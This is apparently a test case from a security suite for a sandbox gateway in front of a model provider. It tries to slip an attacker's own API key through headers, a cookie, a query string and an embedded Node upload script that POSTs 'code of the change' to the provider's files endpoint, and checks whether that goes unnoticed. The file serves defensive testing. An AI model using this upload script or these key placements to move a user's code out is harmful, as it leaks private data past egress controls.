import { type HostileCase, judge } from '../case.ts';
import { openChannel, unnoticed } from '../kit/channel.ts';
import { runInside } from '../kit/inside.ts';

/** Places in which a gateway of some provider takes a key. */
const PLACES: Readonly<Record<string, (key: string) => Readonly<Record<string, string>>>> = {
  'x-api-key': (key) => ({ 'x-api-key': key }),
  'api-key': (key) => ({ 'api-key': key }),
  'x-goog-api-key': (key) => ({ 'x-goog-api-key': key }),
  'openai-api-key': (key) => ({ 'OpenAI-Api-Key': key }),
  'ocp-apim-subscription-key': (key) => ({ 'Ocp-Apim-Subscription-Key': key }),
  'x-auth-token': (key) => ({ 'x-auth-token': key }),
  'proxy-authorization': (key) => ({ 'proxy-authorization': `Bearer ${key}` }),
  'a cookie': (key) => ({ cookie: `session=${key}` }),
};

/** Uploads what it has read to the provider's host, with the attacker's own key, as the Files API takes it. */
const UPLOAD = `
const http = require('node:http');
const [, , , url, key] = process.argv;
const options = { method: 'POST', headers: { authorization: 'Bearer ' + key, 'x-api-key': key }, timeout: 3000 };
const request = http.request(url + '/v1/files', options, (response) => response.resume());
request.on('error', () => undefined).on('timeout', () => request.destroy());
request.on('close', () => console.log('tried'));
request.end('code of the change');
`;

export const hostile: HostileCase = {
  number: 87,
  title: "The attacker's own key for the provider's host, in every place that takes one",
  area: 'broker',
  lanes: ['userns'],
  async attack(place, defence) {
    const channel = await openChannel(place, defence);
    const { seen } = channel.upstream;
    const reached = async (send: (key: string) => Promise<unknown>) => {
      const key = `sk-attacker-${seen.length}-${Math.random()}`;
      await send(key);
      return seen.some((each) => JSON.stringify(each).includes(key)) ? 'reached the provider' : null;
    };
    const got: Record<string, string | null> = {};
    for (const [name, headers] of Object.entries(PLACES))
      got[name] = await reached((key) => channel.ask({ headers: headers(key) }));
    got['in the query'] = await reached((key) => channel.ask({ path: `/v1/chat/completions?key=${key}` }));
    got['past the gateway'] = await reached(async (key) => {
      const args = [channel.upstream.origin, key];
      const { out, err } = await runInside(place, defence, { source: UPLOAD, args });
      if (!out.includes('tried')) throw new Error(`The upload was not tried: ${err}`);
    });
    if (defence === 'on') got['unnoticed'] = await unnoticed(channel);
    return judge(defence, got);
  },
};
